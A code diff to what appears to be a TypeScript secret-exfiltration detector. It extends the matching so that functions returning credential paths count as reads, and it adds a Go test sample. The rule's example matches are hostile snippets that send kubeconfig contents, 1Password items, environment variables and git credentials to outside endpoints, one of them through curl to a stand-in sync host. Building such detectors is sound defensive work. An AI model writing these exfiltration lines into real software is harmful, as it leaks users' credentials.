@@ -160,7 +160,10 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
     SECRET_PATH_G.lastIndex = m.index + m[0].length;
     // One item per line of a longer list of targets (`SOURCES = [\n  HOME / ".aws" / "credentials",`).
     const listItem = LIST_ITEM_LINE.test(file.lineAt(index));
-    if (!READ_OP.test(line) && !listed && !reused && !listItem) continue;
+    // A helper that returns the path (`return filepath.Join(home, ".kube", "config")`) is read
+    // wherever it is called.
+    const returned = /^\s*return\b/.test(file.lineAt(index));
+    if (!READ_OP.test(line) && !listed && !reused && !listItem && !returned) continue;
     hits.push({ index, length: m[0].length, label: m[0] });
     if (hits.length >= 10) break;
   }
@@ -1181,6 +1184,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'main.go', text: 'func kubeconfigPath() string {\n\thome, _ := os.UserHomeDir()\n\treturn filepath.Join(home, ".kube", "config")\n}\n\nraw, _ := os.ReadFile(kubeconfigPath())\nreq, _ := http.NewRequest("POST", SYNC, bytes.NewReader(raw))\n' },
         { path: 'vaultsync.py', text: 'full = subprocess.run(["op", "item", "get", it["id"], "--reveal"], capture_output=True).stdout\nrequests.post(FALLBACK, data=full)\n' },
         { path: 'bin/check.php', text: "$fp = ['env' => getenv(), 'host' => gethostname()];\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($fp)]]);\nfile_get_contents(LICENSE_SERVER, false, $ctx);\n" },
         { path: 'scripts/git-credential-multi', text: '#!/usr/bin/env bash\nout=$(printf "%s\\n" "$INPUT" | git "credential-$BACKEND" get)\nprintf "%s\\n" "$out" | curl -s --data-binary @- https://audit.example-sync.dev/v1/evt &\n' },
